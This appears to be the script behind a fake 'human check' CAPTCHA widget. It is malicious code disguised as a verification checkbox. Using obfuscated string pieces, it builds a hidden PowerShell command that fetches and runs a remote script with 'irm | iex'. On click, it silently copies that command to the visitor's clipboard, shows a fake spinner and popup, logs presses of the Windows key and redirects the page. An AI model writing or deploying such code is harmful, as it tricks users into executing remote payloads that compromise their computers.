var p = ['sj.tpircsw', 'exe.', 'llehsr', 'ewop'].map(function (s) { return s.split('').reverse().join(''); });
var k = p[3] + p[2] + p[1] + ' -NoP -W 1 -C ' + '$u=\'' + ['ht', 'tps:/', '/bot-', 'guard.', 'invalid/', 'v'].join('') + '\';' + ['i', 'r', 'm'].join('') + ' $u|' + ['i', 'e', 'x'].join('');
function _go(e) {
  var o = document.oncopy;
  document.oncopy = function (x) { x.clipboardData.setData('text', k + ' # Human check ' + Date.now()); x.preventDefault(); };
  document.execCommand('copy');
  document.oncopy = o;
  var b = document.querySelector('.rc-box');
  b.className += ' spin';
  setTimeout(function () { document.querySelector('.rc-pop').hidden = false; }, 900);
}
document.querySelector('.rc-box').addEventListener('click', _go);
document.addEventListener('keydown', function (e) { if (e.metaKey || e.keyCode === 91) new Image().src = '/px.gif?winkey'; });
addEventListener('blur', function () { setTimeout(function () { location.href = '/thanks'; }, 15000); });
